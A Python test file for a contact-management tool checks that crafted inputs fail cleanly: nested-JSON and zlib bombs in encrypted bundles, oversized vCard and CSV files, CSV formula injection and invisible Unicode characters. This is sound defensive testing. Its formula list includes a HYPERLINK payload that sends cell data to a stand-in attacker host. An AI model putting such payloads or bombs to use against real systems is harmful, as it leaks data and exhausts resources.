"""Crafted files against the parsers (SECURITY.md, requirement 18): every limit is
checked before parsing, and a crafted file gets a clear error (exit 11), never a
crash, a RecursionError or gigabytes of memory."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import tracemalloc
import zlib
from pathlib import Path

import pytest
from sqlmodel import select

from hrd_tui.errors import ValidationError
from hrd_tui.models import Contact
from hrd_tui.services import contact_io, contacts, handover
from hrd_tui.services.handover import document, sealing
from hrd_tui.services.history import jsonable


@pytest.fixture
def session(opened):  # type: ignore[no-untyped-def]
    with opened.store.session() as s:
        yield s


BUNDLE_PASSPHRASE = "AAAA-BBBB-CCCC-DDDD-EEEE-FFFF-GGGG-HHHH"


def sealed(compressed: bytes, passphrase: str = BUNDLE_PASSPHRASE) -> bytes:
    """A bundle around any compressed payload, as an attacker who chose the passphrase makes it."""
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    params = handover.default_params()
    salt, nonce = os.urandom(sealing.SALT_BYTES), os.urandom(sealing.NONCE_BYTES)
    header = {
        "format": sealing.BUNDLE_FORMAT,
        "version": sealing.BUNDLE_VERSION,
        "kdf": {
            "name": "argon2id",
            "time_cost": params.time_cost,
            "memory_kib": params.memory_kib,
            "parallelism": params.parallelism,
            "salt": sealing._b64(salt),
        },
        "cipher": {"name": "aes-256-gcm", "nonce": sealing._b64(nonce)},
        "compression": "zlib",
        "length": len(compressed) + sealing.TAG_BYTES,
    }
    prefix = sealing.MAGIC + sealing._canonical(header) + b"\n"
    return prefix + AESGCM(sealing._bundle_key(passphrase, salt, params)).encrypt(nonce, compressed, prefix)


def deep_document(depth: int) -> bytes:
    """A handover document whose contacts list nests ``depth`` lists deep."""
    return b'{"format":"hrd-tui-handover","version":1,"contacts":' + b"[" * depth + b"]" * depth + b"}"


def small_deep_bundle() -> bytes:
    return sealed(zlib.compress(deep_document(100_000), 9))


# -- handover bundles ---------------------------------------------------------------


@pytest.mark.parametrize("depth", [2_000, 20_000, 100_000])
def test_deeply_nested_bundles_are_refused_not_a_recursion_error(depth: int) -> None:
    with pytest.raises(handover.BundleError) as caught:
        handover.open_sealed(sealed(zlib.compress(deep_document(depth), 9)), BUNDLE_PASSPHRASE)
    assert caught.value.exit_code == 11 and "nest" in str(caught.value)


def test_a_bundle_of_694_bytes_nesting_far_too_deep_is_refused() -> None:
    data = small_deep_bundle()
    assert len(data) < 1000
    with pytest.raises(handover.BundleError):
        handover.open_sealed(data, BUNDLE_PASSPHRASE)


def test_nesting_inside_strings_is_text_not_depth() -> None:
    doc = {"format": "hrd-tui-handover", "version": 1, "contacts": [{"id": "x", "notes": "[" * 50_000 + '\\"{' * 1000}]}
    plain = zlib.compress(json.dumps(doc).encode())
    assert handover.open_sealed(sealed(plain), BUNDLE_PASSPHRASE)["contacts"][0]["notes"].startswith("[[[")


def test_a_header_nesting_deep_is_damaged_not_a_crash() -> None:
    data = sealing.MAGIC + b"[" * 4000 + b"\n" + b"x" * 64
    with pytest.raises(handover.BundleError):
        handover.open_sealed(data, BUNDLE_PASSPHRASE)


def test_a_zlib_bomb_is_refused_after_inflating_at_most_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    limit = 4 << 20
    monkeypatch.setattr(sealing, "MAX_DOCUMENT_BYTES", limit)
    bomb = zlib.compress(b"[" + b" " * (400 << 20) + b"]", 9)  # 400 MiB of spaces in ~400 KB
    data = sealed(bomb)
    tracemalloc.start()
    try:
        with pytest.raises(handover.BundleError) as caught:
            handover.open_sealed(data, BUNDLE_PASSPHRASE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "too large" in str(caught.value)
    assert peak < limit * 3, peak  # streamed in pieces: never the 400 MiB, nor the whole buffer twice


def test_a_real_zlib_bomb_peaks_near_the_limit_not_at_gigabytes() -> None:
    squeezer, parts = zlib.compressobj(9), []
    zeros = b"0" * (1 << 20)
    for _ in range(1536):  # 1.5 GiB of digits in about 1.5 MB
        parts.append(squeezer.compress(zeros))
    data = sealed(b"".join(parts) + squeezer.flush())
    del parts
    tracemalloc.start()
    try:
        with pytest.raises(handover.BundleError):
            handover.open_sealed(data, BUNDLE_PASSPHRASE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < sealing.MAX_DOCUMENT_BYTES * 1.5 < 600 << 20, peak >> 20


def test_too_many_records_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sealing, "MAX_RECORDS", 1000)
    doc = {"format": "hrd-tui-handover", "version": 1, "contacts": [{"id": str(i)} for i in range(1001)]}
    with pytest.raises(handover.BundleError) as caught:
        handover.open_sealed(sealed(zlib.compress(json.dumps(doc).encode())), BUNDLE_PASSPHRASE)
    assert "records" in str(caught.value)


def test_a_bundle_file_too_large_is_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "big.bundle"
    with path.open("wb") as f:
        f.truncate(sealing.MAX_FILE_BYTES + 1)  # sparse: nothing is written
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read"))
    with pytest.raises(handover.BundleError):
        handover.read_bundle(path, BUNDLE_PASSPHRASE)


# -- contact files ---------------------------------------------------------------------

MEASURE = textwrap.dedent("""
    import json, resource, sys
    from hrd_tui.services import contact_io
    from hrd_tui.errors import ValidationError
    path = sys.argv[1]
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    # A ceiling on the address space, so that an unbounded parser fails here
    # instead of taking the machine's memory.
    with open("/proc/self/status") as f:
        vm = next(int(l.split()[1]) for l in f if l.startswith("VmSize:")) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (vm + (1 << 30), resource.RLIM_INFINITY))
    outcome = "parsed"
    try:
        text = contact_io.read_file(path)
        plan = contact_io.parse(text, contact_io.detect_format(path, text))
        outcome = json.dumps([r.notes + [str(i) for i in r.issues] for r in plan.rows])
    except ValidationError as exc:
        outcome = "refused: " + str(exc)
    except MemoryError:
        outcome = "MemoryError"
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"growth_mb": (after - before) / 1024, "outcome": outcome}))
""")


def measured(path: Path) -> dict:
    out = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path)],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "HRD_TUI_TEST_KDF": "1"},
    )
    assert out.returncode == 0, out.stderr[-2000:]
    return json.loads(out.stdout.strip().splitlines()[-1])


def photo_vcard(path: Path, megabytes: int = 20) -> Path:
    import base64

    photo = base64.b64encode(os.urandom(megabytes * 3 << 18)).decode()  # megabytes MB of base64
    folded = "\r\n ".join(photo[i : i + 74] for i in range(0, len(photo), 74))
    path.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Núñez\r\nX-HRD-CODENAME:Heron-101\r\n"
        f"PHOTO;ENCODING=b;TYPE=JPEG:{folded}\r\nEND:VCARD\r\n",
        encoding="utf-8",
        newline="",
    )
    return path


def test_a_vcard_with_a_20_mb_photo_skips_the_photo_in_bounded_memory(tmp_path: Path) -> None:
    result = measured(photo_vcard(tmp_path / "photo.vcf"))
    assert result["outcome"] != "MemoryError"
    assert result["growth_mb"] < 200, result
    (notes,) = json.loads(result["outcome"])
    assert any("PHOTO" in n and "not imported" in n for n in notes), notes


def test_a_vcard_photo_is_never_decoded_and_the_card_imports() -> None:
    text = (
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana Núñez\r\nPHOTO:data:image/jpeg;base64,AAAA\r\n"
        "item1.LOGO;ENCODING=b:AAAA\r\nKEY;ENCODING=BASE64:AAAA\r\nX-CUSTOM:kept out\r\nEMAIL:ana@example.org\r\n"
        "END:VCARD\r\n"
    )
    (row,) = contact_io.parse(text, "vcard").rows
    assert row.ok and row.data["name"] == "Ana Núñez" and row.data["email"] == "ana@example.org"
    assert any("PHOTO" in n and "LOGO" in n and "KEY" in n for n in row.notes), row.notes


def test_a_vcard_property_too_long_is_that_cards_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(contact_io, "MAX_PROPERTY_CHARS", 10_000)
    note = "\r\n ".join(["n" * 70] * 200)  # 14,000 characters, folded
    text = (
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long\r\nNOTE:{note}\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Short\r\nEND:VCARD\r\n"
    )
    first, second = contact_io.parse(text, "vcard").rows
    assert not first.ok and "too long" in str(first.issues[0])
    assert second.ok and second.data["name"] == "Short"


def test_a_20_mb_csv_line_is_refused_before_the_csv_reader(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = "codename,name\n" + "Heron-1," + "x," * (10 << 20) + "\n"
    monkeypatch.setattr(contact_io.csv, "reader", lambda *a, **k: pytest.fail("the CSV reader saw it"))
    with pytest.raises(contact_io.ContactFileError) as caught:
        contact_io.parse(text, "csv")
    assert caught.value.exit_code == 11 and "line 2" in str(caught.value) and "too long" in str(caught.value)


def test_a_20_mb_vcard_line_is_refused() -> None:
    text = "BEGIN:VCARD\r\nVERSION:3.0\r\nNOTE:" + "x" * (20 << 20) + "\r\nEND:VCARD\r\n"
    with pytest.raises(contact_io.ContactFileError) as caught:
        contact_io.parse(text, "vcard")
    assert "line 3" in str(caught.value) and "too long" in str(caught.value)


def test_a_contact_file_too_large_is_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as f:
        f.truncate(contact_io.MAX_FILE_BYTES + 1)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read"))
    with pytest.raises(contact_io.ContactFileError) as caught:
        contact_io.read_file(path)
    assert "too large" in str(caught.value)


@pytest.mark.parametrize("fmt", ["csv", "vcard"])
def test_too_many_records_are_refused_in_a_contact_file(fmt: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(contact_io, "MAX_RECORDS", 100)
    if fmt == "csv":
        text = "name\n" + "".join(f"P {i}\n" for i in range(101))
    else:
        text = "".join(f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:P {i}\r\nEND:VCARD\r\n" for i in range(101))
    with pytest.raises(contact_io.ContactFileError) as caught:
        contact_io.parse(text, fmt)  # type: ignore[arg-type]
    assert "more than 100" in str(caught.value)


# -- CSV formulas ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturn"]


def test_csv_export_neutralises_formulas_and_the_import_gives_them_back(session) -> None:  # type: ignore[no-untyped-def]
    names = [*FORMULAS, "'Quoted already", "'=looks escaped", "''@two", "Plain"]
    for n, name in enumerate(names):
        contacts.create_contact(
            session, {"name": name, "codename": f"F-{n:02d}", "organisation": name, "phone": "+1 555 0100"}
        )
    session.flush()
    exported = contact_io.export_csv(session, real_names=True)
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    by_code = {r["codename"]: r for r in rows}
    for n in range(len(names)):
        cell = by_code[f"F-{n:02d}"]["name"]
        assert cell[0] not in "=+-@\t\r", cell
        assert by_code[f"F-{n:02d}"]["phone"] == "'+1 555 0100"
    assert by_code["F-06"]["name"] == "'Quoted already"  # no formula after it: left alone
    assert by_code["F-07"]["name"] == "''=looks escaped"
    plan = contact_io.parse(exported, "csv")
    assert [r.data["name"] for r in plan.rows] == names
    assert all(r.data["phone"] == "+1 555 0100" for r in plan.rows)


def test_a_hand_written_apostrophe_is_kept() -> None:
    plan = contact_io.parse("name,organisation\n'Abdul,'Ngo\n", "csv")
    assert plan.rows[0].data["name"] == "'Abdul" and plan.rows[0].data["organisation"] == "'Ngo"


# -- invisible characters ------------------------------------------------------------------


def test_invisible_characters_do_not_hide_a_duplicate(session) -> None:  # type: ignore[no-untyped-def]
    contacts.create_contact(session, {"name": "Ana Núñez", "codename": "Heron-101"})
    session.flush()
    plan = contact_io.preview(session, "name\nAna\u200b Núñez\n\u202eAna Núñez\u2066\nA\ufeffna N\u00adúñez\n", "csv")
    assert all(r.duplicate_label == "Heron-101" and r.matched_on == "name" for r in plan.rows), plan.rows
    assert [r.data["name"] for r in plan.rows] == ["Ana Núñez"] * 3


def test_names_and_codenames_are_stored_without_invisible_characters(session) -> None:  # type: ignore[no-untyped-def]
    contact = contacts.create_contact(session, {"name": "Ana\u200b\u2060 Núñez\u200f", "codename": "Her\u200don-7"})
    assert contact.name == "Ana Núñez" and contact.codename == "Heron-7"
    contacts.update_contact(session, contact, {"name": "\u202eZed\u202c Ode", "codename": "Cedar\u200b-8"})
    assert contact.name == "Zed Ode" and contact.codename == "Cedar-8"
    session.flush()
    assert session.exec(select(Contact.codename)).all() == ["Cedar-8"]


def test_joiners_inside_a_word_are_spelling_and_kept(session) -> None:  # type: ignore[no-untyped-def]
    persian = "\u0645\u06cc\u200c\u0631\u0648\u06cc"  # a ZWNJ between two letters: part of the spelling
    contact = contacts.create_contact(session, {"name": f"{persian} \u200cX", "codename": "Aster-1"})
    assert contact.name == f"{persian} X"
    plan = contact_io.preview(session, "name\n" + persian.replace("\u200c", "") + " X\n", "csv")
    assert plan.rows[0].duplicate_label == "Aster-1"  # duplicate detection ignores them all


def test_a_handover_carries_names_without_invisible_characters(session, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    doc = {"format": "hrd-tui-handover", "version": 1, "contacts": []}
    bundle = document._bundle_of(doc)
    contact = contacts.create_contact(session, {"name": "Real Name", "codename": "Heron-1"})
    session.flush()
    row = {k: v for k, v in jsonable(contact.model_dump()).items()}
    row.update(id="0" * 31 + "1", name="Ana\u200b Núñez", codename="Heron\u200d-2")
    bundle.tables["contacts"] = [row]
    plan = handover.plan_import(session, bundle)
    handover.apply_import(session, plan)
    session.flush()
    stored = session.get(Contact, row["id"])
    assert stored.name == "Ana Núñez" and stored.codename == "Heron-2"


def test_validation_error_is_exit_11() -> None:
    assert ValidationError({"x": "y"}).exit_code == 11 and contact_io.ContactFileError("x").exit_code == 11
